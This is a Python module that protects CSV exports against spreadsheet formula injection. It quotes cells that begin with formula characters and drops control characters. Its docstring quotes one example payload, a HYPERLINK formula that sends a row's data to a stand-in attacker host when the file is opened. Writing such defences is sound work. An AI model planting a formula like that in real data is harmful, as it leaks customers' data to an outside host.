"""CSV meant for people: no cell a spreadsheet would run as a formula (OWASP's CSV injection).

A spreadsheet treats a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula (and
some also when it begins with a tab or a carriage return, or the full-width forms of those
signs), so a customer named ``=HYPERLINK("http://evil.example/"&B2)`` becomes a link that
sends the row away when the shop owner opens the export. Such a text cell gets a single
quote in front (``'=HYPERLINK(...``), which the spreadsheet shows as text; numbers (``int``,
``float``, ``Decimal``) are left alone, so ``-5.0`` stays a number. Control characters
other than tab, newline and carriage return (an escape sequence in a name) are dropped: no
spreadsheet needs them, and a terminal would obey them.

``retain --raw-csv`` (or ``RETAIN_RAW_CSV=1``) writes every cell as it is, for scripts.

:func:`write_rows` also quotes a cell that holds a carriage return, which ``csv.writer`` with
``lineterminator="\\n"`` leaves bare (before Python 3.13): a reader would end the row there.
"""

from __future__ import annotations

import csv
import itertools
import re
from collections.abc import Iterable
from typing import IO, Any

FORMULA_START = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")  # and the full-width = + - @
_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


def safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet may open it: text that would start a formula is quoted."""
    if not isinstance(value, str):
        return value
    if _CONTROL.search(value):
        value = _CONTROL.sub("", value)
    if value and value[0] in FORMULA_START:
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """:func:`safe_cell` of each value."""
    return [safe_cell(value) for value in values]


def write_rows(
    stream: IO[str], header: Iterable[Any], rows: Iterable[Iterable[Any]], *, safe: bool = True
) -> None:
    """``header`` and ``rows`` as CSV lines ending in ``\\n``, each cell :func:`safe_cell`
    unless not ``safe``. A row with a carriage return in a cell has its text cells quoted."""
    plain = csv.writer(stream, lineterminator="\n")
    quoted = None
    for row in itertools.chain([header], rows):
        cells = safe_row(row) if safe else list(row)
        if any(isinstance(cell, str) and "\r" in cell for cell in cells):
            if quoted is None:
                quoted = csv.writer(stream, lineterminator="\n", quoting=csv.QUOTE_NONNUMERIC)
            quoted.writerow(cells)
        else:
            plain.writerow(cells)
